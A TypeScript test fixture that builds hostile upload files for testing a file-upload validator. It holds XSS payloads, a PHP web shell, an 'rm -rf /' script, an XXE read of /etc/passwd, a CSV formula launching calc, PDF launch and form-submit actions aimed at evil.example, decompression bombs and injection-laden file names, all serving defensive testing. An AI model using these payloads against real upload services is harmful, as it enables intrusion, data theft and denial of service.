import { deflateRawSync, gzipSync } from "node:zlib";
import { jpeg, pdf, png } from "./files";

// Files that somebody sends to harm readers or the program. `stored` ones are what they claim to be, with content that
// must never run; all others are rejected.

export interface HostileFile {
  what: string;
  name: string;
  bytes: Buffer;
  /** The claimed type. */
  type?: string;
  stored?: true;
}

const SCRIPT = "<script>alert(document.domain)</script>";
const HTML = `<!doctype html><html><body>${SCRIPT}</body></html>`;
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
/** The test file of virus scanners, in two parts, so that no scanner removes this source file. */
const EICAR = ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join("");

/** A ZIP of one entry; a bomb if its content is large. */
function zip(content: Buffer, name = "a.txt", comment: Buffer = Buffer.alloc(0)): Buffer {
  const packed = deflateRawSync(content);
  const entry = (start: number[], extra: number) => {
    const head = Buffer.alloc(extra);
    Buffer.from(start).copy(head);
    return head;
  };
  const local = entry([0x50, 0x4b, 3, 4, 20, 0, 0, 0, 8, 0], 30);
  local.writeUInt32LE(packed.length, 18);
  local.writeUInt32LE(content.length, 22);
  local.writeUInt16LE(name.length, 26);
  const central = entry([0x50, 0x4b, 1, 2, 20, 0, 20, 0, 0, 0, 8, 0], 46);
  central.writeUInt32LE(packed.length, 20);
  central.writeUInt32LE(content.length, 24);
  central.writeUInt16LE(name.length, 28);
  const end = entry([0x50, 0x4b, 5, 6], 22);
  const body = Buffer.concat([local, Buffer.from(name), packed]);
  end.writeUInt16LE(1, 8);
  end.writeUInt16LE(1, 10);
  end.writeUInt32LE(46 + name.length, 12);
  end.writeUInt32LE(body.length, 16);
  end.writeUInt16LE(comment.length, 20);
  return Buffer.concat([body, central, Buffer.from(name), end, comment]);
}

const text = (content: string) => Buffer.from(content, "utf8");
const join = (...parts: (Buffer | string)[]) =>
  Buffer.concat(parts.map((part) => (typeof part === "string" ? text(part) : part)));
const hex = (bytes: string, size = 200) => Buffer.concat([Buffer.from(bytes, "hex"), Buffer.alloc(size, 65)]);
const cutOff = (bytes: Buffer, by: number) => bytes.subarray(0, bytes.length - by);

export const hostileFiles: HostileFile[] = [
  // Markup and scripts under other names.
  { what: "an SVG with a script", name: "logo.svg", bytes: text(SVG), type: "image/svg+xml" },
  { what: "an SVG named .png", name: "logo.png", bytes: text(SVG), type: "image/png" },
  { what: "an SVG with a prolog", name: "a.png", bytes: text(`<?xml version="1.0"?>${SVG}`), type: "image/png" },
  { what: "HTML named .pdf", name: "invoice.pdf", bytes: text(HTML), type: "application/pdf" },
  { what: "HTML named .jpg", name: "photo.jpg", bytes: text(HTML), type: "image/jpeg" },
  { what: "HTML", name: "index.html", bytes: text(HTML), type: "text/html" },
  { what: "HTML with a byte order mark", name: "a.pdf", bytes: join(Buffer.from([0xef, 0xbb, 0xbf]), HTML) },
  { what: "HTML in UTF-16", name: "a.pdf", bytes: join(Buffer.from([0xff, 0xfe]), Buffer.from(HTML, "utf16le")) },
  { what: "HTML in UTF-7", name: "a.pdf", bytes: text("+ADw-script+AD4-alert(1)+ADw-/script+AD4-") },
  { what: "XHTML", name: "a.xhtml", bytes: text(`<html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`) },
  { what: "MHTML", name: "a.mht", bytes: text(`MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${HTML}`) },
  { what: "JavaScript", name: "a.js", bytes: text("alert(1)"), type: "text/javascript" },
  { what: "PHP", name: "shell.php.png", bytes: text("<?php system($_GET['c']);") },
  { what: "a shell script", name: "a.sh", bytes: text("#!/bin/sh\nrm -rf /\n") },
  { what: "a batch file", name: "a.bat", bytes: text("@echo off\r\ndel *\r\n") },
  {
    what: "XML with an external entity",
    name: "a.xml",
    bytes: text(`<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>`),
  },
  {
    what: "XML that expands",
    name: "a.xml",
    bytes: text(`<!DOCTYPE a [<!ENTITY b "x"><!ENTITY c "&b;&b;">]><a>&c;</a>`),
  },
  {
    what: "XML with a stylesheet that runs",
    name: "a.xml",
    bytes: text(`<?xml-stylesheet type="text/xsl" href="//evil.example/a.xsl"?><a>${SCRIPT}</a>`),
    type: "application/xml",
  },
  { what: "a packed SVG", name: "logo.svgz", bytes: gzipSync(text(SVG)), type: "image/svg+xml" },
  { what: "a formula", name: "a.csv", bytes: text("=cmd|' /C calc'!A0") },
  { what: "an Internet shortcut", name: "a.url", bytes: text("[InternetShortcut]\r\nURL=file://evil.example/a\r\n") },
  { what: "PostScript", name: "a.ps", bytes: text("%!PS-Adobe-3.0\n(%pipe%id) (w) file\n") },
  // Programs and archives.
  { what: "a Windows program", name: "invoice.pdf.exe", bytes: hex("4d5a9000") },
  { what: "a Windows program named .pdf", name: "invoice.pdf", bytes: hex("4d5a9000"), type: "application/pdf" },
  { what: "a Linux program", name: "a.pdf", bytes: hex("7f454c46020101") },
  { what: "a macOS program", name: "a.pdf", bytes: hex("cffaedfe") },
  { what: "a Java class", name: "a.pdf", bytes: hex("cafebabe") },
  { what: "WebAssembly", name: "a.png", bytes: hex("0061736d01000000") },
  { what: "a ZIP bomb", name: "a.pdf", bytes: zip(Buffer.alloc(20_000_000)) },
  { what: "a bomb in gzip", name: "a.png", bytes: gzipSync(Buffer.alloc(20_000_000)) },
  { what: "a document with macros", name: "a.docm", bytes: zip(text("vba"), "word/vbaProject.bin") },
  { what: "a RAR", name: "a.pdf", bytes: hex("526172211a0700") },
  { what: "a 7z", name: "a.pdf", bytes: hex("377abcaf271c") },
  { what: "an old Office file", name: "a.doc", bytes: hex("d0cf11e0a1b11ae1") },
  { what: "EICAR", name: "eicar.com", bytes: text(EICAR) },
  { what: "EICAR named .pdf", name: "a.pdf", bytes: text(EICAR), type: "application/pdf" },
  // Other images.
  { what: "a GIF", name: "a.gif", bytes: text("GIF89a=1;alert(1)") },
  { what: "a GIF that is JavaScript", name: "a.png", bytes: text("GIF89a/*\0\0*/=1;alert(1)//;") },
  { what: "a WebP", name: "a.webp", bytes: join("RIFF", Buffer.alloc(4), "WEBP") },
  { what: "a TIFF", name: "a.jpg", bytes: hex("49492a00") },
  { what: "an icon", name: "a.png", bytes: hex("000001000100") },
  { what: "a HEIC", name: "a.jpg", bytes: join(Buffer.from([0, 0, 0, 24]), "ftypheic", Buffer.alloc(12)) },
  // Empty, short, long and damaged.
  { what: "nothing", name: "a.pdf", bytes: Buffer.alloc(0), type: "application/pdf" },
  { what: "one byte", name: "a.pdf", bytes: text("%") },
  { what: "only the start of a PDF", name: "a.pdf", bytes: text("%PDF-1.7\n") },
  { what: "only the start of a PNG", name: "a.png", bytes: png().subarray(0, 33) },
  { what: "only the start of a JPEG", name: "a.jpg", bytes: Buffer.from([0xff, 0xd8, 0xff, 0xe0]) },
  { what: "a PDF without its end", name: "a.pdf", bytes: cutOff(pdf(3_000), 8) },
  { what: "a PNG without its end", name: "a.png", bytes: cutOff(png(), 1) },
  { what: "a JPEG without its end", name: "a.jpg", bytes: cutOff(jpeg(), 2) },
  {
    what: "a PNG without size",
    name: "a.png",
    bytes: join(png().subarray(0, 16), Buffer.alloc(8), png().subarray(24)),
  },
  { what: "zeros", name: "a.pdf", bytes: Buffer.alloc(5_000) },
  { what: "more than 10 MiB", name: "a.pdf", bytes: pdf(10 * 1024 * 1024 + 1) },
  // Two kinds in one.
  { what: "a PDF after HTML", name: "a.pdf", bytes: join(HTML, pdf()) },
  { what: "a PDF before HTML", name: "a.pdf", bytes: join(pdf(), HTML) },
  { what: "a PDF that is a ZIP", name: "a.pdf", bytes: join(pdf(), zip(text("x"))) },
  { what: "a PNG before a ZIP", name: "a.png", bytes: join(png(), zip(text("x"))) },
  { what: "a ZIP that ends as a PNG", name: "a.png", bytes: join(png(), zip(text("x"), "a.txt", png().subarray(-12))) },
  { what: "a JPEG that is a ZIP", name: "a.jpg", bytes: join(jpeg(), zip(text("x"), "a.jar")) },
  { what: "a PNG before a script", name: "a.png", bytes: join(png(), SCRIPT) },
  // What they claim to be, with hostile content or names.
  { what: "a PNG with a script in a comment", name: "a.png", bytes: png(SCRIPT), stored: true },
  { what: "a JPEG with a script in a comment", name: "a.jpg", bytes: jpeg(HTML), stored: true },
  {
    what: "a PDF with JavaScript",
    name: "a.pdf",
    bytes: pdf(2_000, "4 0 obj<</S/JavaScript/JS(app.alert(1))>>endobj\n"),
    stored: true,
  },
  {
    what: "a PDF that starts a program",
    name: "a.pdf",
    bytes: pdf(2_000, "4 0 obj<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>endobj\n"),
    stored: true,
  },
  {
    what: "a PDF that sends its form elsewhere",
    name: "a.pdf",
    bytes: pdf(2_000, "4 0 obj<</S/SubmitForm/F(https://evil.example/)/Flags 4>>endobj\n"),
    stored: true,
  },
  {
    what: "a PDF with a program inside",
    name: "a.pdf",
    bytes: pdf(4_000, `4 0 obj<</Type/EmbeddedFile/Length 999999>>stream\nMZ${"A".repeat(99)}\nendstream endobj\n`),
    stored: true,
  },
  {
    what: "a PNG of 2 billion pixels each way",
    name: "a.png",
    bytes: join(png().subarray(0, 16), Buffer.alloc(8, 0x7f), png().subarray(24)),
    stored: true,
  },
  { what: "a PDF claimed to be HTML", name: "a.html", bytes: pdf(), type: "text/html", stored: true },
  { what: "a PNG claimed to be an SVG", name: "a.svg", bytes: png(), type: "image/svg+xml", stored: true },
  { what: "a name with a path", name: "../../etc/passwd\\..\\a.pdf", bytes: pdf(), stored: true },
  { what: "a name with markup", name: `"><img src=x onerror=alert(1)>.png`, bytes: png(), stored: true },
  { what: "a name with a NUL", name: "a.php\0.pdf", bytes: pdf() },
  { what: "a name with two endings", name: "invoice.html.pdf", bytes: pdf(), stored: true },
  { what: "a name that a template would fill", name: "{{7*7}}${7*7}%s%n.pdf", bytes: pdf(), stored: true },
  { what: "a name with line breaks", name: "a\r\nSet-Cookie: a=b\r\n.pdf", bytes: pdf(), stored: true },
  { what: "a name that is written backwards", name: "invoice\u202efdp.exe", bytes: pdf(), stored: true },
  { what: "a name of a device", name: "CON.pdf", bytes: pdf(), stored: true },
  { what: "a very long name", name: `${"ä".repeat(3_000)}.pdf`, bytes: pdf(), stored: true },
  { what: "a name of only dots", name: "....", bytes: jpeg(), stored: true },
];
